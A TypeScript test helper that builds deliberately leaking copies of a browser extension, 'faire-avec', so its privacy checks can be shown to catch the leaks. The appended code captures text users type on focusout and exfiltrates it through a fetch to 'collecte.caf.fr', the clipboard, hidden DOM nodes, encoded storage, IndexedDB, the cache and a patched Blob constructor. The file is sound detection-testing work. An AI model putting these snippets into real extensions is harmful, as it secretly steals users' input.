/**
 * Builds that leak on purpose: the shipped build with one more line. Each leak must be detected by the same searches
 * that find nothing in the shipped build.
 */
import { appendFileSync, cpSync, globSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserName } from '../support/browser/driver.ts';
import type { Channel } from './privacy-channels.ts';

export const shipped: Record<BrowserName, string> = { chromium: '.output/chrome-mv3', firefox: '.output/firefox-mv3' };

/** The code by which a leaking companion leaks a text that it has read. `tell` sends the text to the background. */
const inPage: Partial<Record<Channel, string>> = {
  console: 'console.debug(text)',
  network: 'fetch("https://collecte.caf.fr/wzq?t=" + encodeURIComponent(text), { mode: "no-cors" }).catch(() => {})',
  clipboard: 'navigator.clipboard.writeText(text).catch(() => {})',
  dom: 'root.append(Object.assign(document.createElement("p"), { hidden: true, title: btoa(unescape(encodeURIComponent(text))) }))',
  accessibility:
    'const one = document.createElement("button"); one.ariaLabelledByElements = [document.getElementById("riche")]; root.querySelector("[data-bubble]").append(one)',
};
/** The code by which a leaking background leaks it, each time in another form. */
const behind: Partial<Record<Channel, string>> = {
  local: 'api.storage.local.set({ x: btoa(unescape(encodeURIComponent(text))) })',
  session:
    'api.storage.session.set({ x: [...new TextEncoder().encode(text)].map((b) => b.toString(16).padStart(2, "0")).join("") })',
  sync: 'api.storage.sync.set({ x: [...text].reverse().join("") })',
  indexedDB:
    'crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)).then((d) => { const o = indexedDB.open("x"); o.onupgradeneeded = () => o.result.createObjectStore("x"); o.onsuccess = () => { o.result.transaction("x", "readwrite").objectStore("x").put(1, [...new Uint8Array(d)].map((b) => b.toString(16).padStart(2, "0")).join("")); o.result.close(); }; })',
  cache: 'caches.open("x").then((c) => c.put("https://x.invalid/", new Response(encodeURIComponent(text))))',
  // It is removed at once, so only the disk still contains it.
  disk: 'api.storage.local.set({ y: [...text].slice(0, 8).join("") }).then(() => api.storage.local.remove("y"))',
  export: 'globalThis.leaked = text',
  localStorage: 'api.runtime.sendMessage({ kept: text }).catch(() => {})',
};

/** The field that triggers each leak. */
export type Leaks = Partial<Record<Channel, string>>;

export function leaking(browser: BrowserName, leaks: Leaks): string {
  const folder = mkdtempSync(join(tmpdir(), 'faire-avec-fuite-'));
  cpSync(shipped[browser], folder, { recursive: true });
  const api = 'const api = globalThis.browser ?? globalThis.chrome;';
  const cases = Object.entries(leaks).map(
    ([channel, field]) =>
      `if (id === ${JSON.stringify(field)}) { ${inPage[channel as Channel] ?? `api.runtime.sendMessage({ leak: ${JSON.stringify(channel)}, text })`} }`,
  );
  appendFileSync(
    join(folder, 'companion.js'),
    `;(() => { if (globalThis.leaks) return; globalThis.leaks = true; ${api}
    addEventListener('focusout', ({ target }) => {
      const { id } = target, text = target.value ?? target.textContent;
      const host = document.querySelector('faire-avec');
      const root = host && (host.openOrClosedShadowRoot ?? api.dom.openOrClosedShadowRoot(host));
      ${cases.join('\n')}
    }, true); })();`,
  );
  const answers = Object.entries(behind).map(([channel, work]) => `if (leak === '${channel}') { ${work}; }`);
  appendFileSync(
    join(folder, 'background.js'),
    `;(() => { ${api} api.runtime.onMessage.addListener(({ leak, text }, sender, answer) => { ${answers.join('\n')}
      if (leak === 'asked') answer(globalThis.leaked ?? ''); }); })();`,
  );
  for (const page of globSync('chunks/home-*.js', { cwd: folder }))
    appendFileSync(
      join(folder, page),
      `;{ ${api} api.runtime.onMessage.addListener(({ kept }) => { if (kept) localStorage.setItem('x', kept); }); }`,
    );
  for (const page of globSync('chunks/journal-*.js', { cwd: folder }))
    appendFileSync(
      join(folder, page),
      `;{ ${api} let leaked = ''; api.runtime.sendMessage({ leak: 'asked' }).then((text) => { leaked = text ?? ''; });
      const Own = Blob; globalThis.Blob = class extends Own { constructor(parts, how) { super([...parts, leaked], how); } }; }`,
    );
  return folder;
}

export const forgetBuild = (folder: string): void => rmSync(folder, { recursive: true, force: true });
